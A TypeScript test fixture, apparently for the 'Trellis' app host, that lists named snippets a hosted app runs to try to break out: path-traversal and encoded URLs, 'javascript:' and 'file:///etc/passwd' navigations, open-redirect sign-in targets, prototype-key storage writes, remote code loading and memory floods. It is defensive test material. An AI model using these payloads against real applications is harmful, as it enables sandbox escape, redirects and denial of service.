import type { Escape } from './kinds.ts';

/** What is said over the port by the ways that an app has, meant to break or to move the page around it. */
export const SAYING: readonly Escape[] = [
  {
    name: 'errors that are no texts',
    code: `for (const error of [{ title: { a: 1 }, scope: 'app' }, { title: Symbol.iterator, scope: {} }, { title: null }, {}, { title: 'x'.repeat(5e6), details: 'y'.repeat(5e6), componentName: {}, scope: 'x' }])
  quietly(() => globalThis.__trellis.reportError(error));
later(() => { throw { message: { a: 1 }, stack: 7 }; });
later(() => { const error = new Error(); error.message = { a: [] }; error.stack = {}; throw error; });
const round = {}; round.round = round; void Promise.reject(round);`,
  },
  {
    name: 'addresses above the app',
    code: `for (const url of ['/../../login?session=stolen', '/..%2f..%2flogout', '/%2e%2e/%2e%2e/logout', '\\\\..\\\\..\\\\logout', '//example.com/stolen', '/\\t/example.com', 'javascript:alert(1)', '/%252e%252e%252flogout'])
  for (const act of [() => history.pushState(null, '', url), () => history.replaceState(null, '', url), () => globalThis.__trellis.navigate(url)]) quietly(act);`,
  },
  {
    name: 'sign-in that leads elsewhere',
    code: `if (!sessionStorage.getItem('asked')) { sessionStorage.setItem('asked', '1'); for (const next of ['https://example.com/', '//example.com', '/../../logout', 'javascript:alert(1)', { toString: () => '/../../logout' }]) quietly(() => globalThis.__trellis.signIn(next)); }`,
  },
  {
    name: 'a way out without a click',
    code: `for (const url of ['https://example.com/', 'javascript:alert(1)', 'data:text/html,stolen', 'file:///etc/passwd', 'blob:null/x', 'about:blank']) quietly(() => globalThis.__trellis.navigate(url));
quietly(() => globalThis.__trellis.openAccount());`,
  },
  {
    name: 'steps in the history out of the app',
    code: 'for (const by of [-1, -50, 1, 50, Number.NaN, 2 ** 40, "-1", { valueOf: () => -9 }]) quietly(() => history.go(by)); history.back(); history.forward();',
  },
  {
    name: 'a flood of addresses',
    code: "for (let at = 0; at < 3000; at++) quietly(() => history.pushState(null, '', '/settings?escape=none&at=' + at));",
  },
  {
    name: 'a flood of messages',
    code: `for (let at = 0; at < 3000; at++) { quietly(() => globalThis.__trellis.reportError({ title: 'flood ' + at, scope: 'app' })); document.title = 'flood ' + at; quietly(() => localStorage.setItem('flood', String(at))); quietly(() => globalThis.__trellis.getToken({ refresh: true }).catch(() => undefined)); }`,
  },
  {
    name: 'reloads without end',
    code: 'history.go(0); globalThis.__trellisPage.location.reload();',
  },
  {
    name: 'titles of somebody else',
    code: "document.title = 'stolen'; await new Promise((done) => later(done, 20)); document.title = 'Trellis\\u202e\\u0000 - Sign in ' + 'x'.repeat(1e6);",
  },
  {
    name: 'keys of every object',
    code: `for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) { quietly(() => localStorage.setItem(key, 'stolen')); quietly(() => sessionStorage.setItem(key, 'stolen')); quietly(() => { document.cookie = key + '=stolen'; });
  await globalThis.__trellisLoad(key).then(() => report('got code'), () => undefined); }
quietly(() => localStorage.setItem('much', 'x'.repeat(6 * 1024 * 1024)));`,
  },
  {
    name: 'code by addresses',
    code: `for (const name of ['/preview.json', '../builder.js', 'https://example.com/x.js', 'app:/../../preview.json', 'vendor:/../../../builder.js', '', { toString: () => '/preview.json' }])
  await globalThis.__trellisLoad(name).then(() => report('got code by ' + name), () => undefined);`,
  },
  {
    name: 'states that cannot be kept',
    code: `const round = {}; round.round = round; const deep = []; let at = deep; for (let n = 0; n < 5e4; n++) { const next = []; at.push(next); at = next; }
for (const state of [round, deep, new Map([[round, round]]), new Blob(['x']), 'x'.repeat(3e6), Array.from({ length: 2e5 }, () => ({})), quietly(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))])
  quietly(() => history.pushState(state, '', '/settings?escape=none'));`,
  },
];
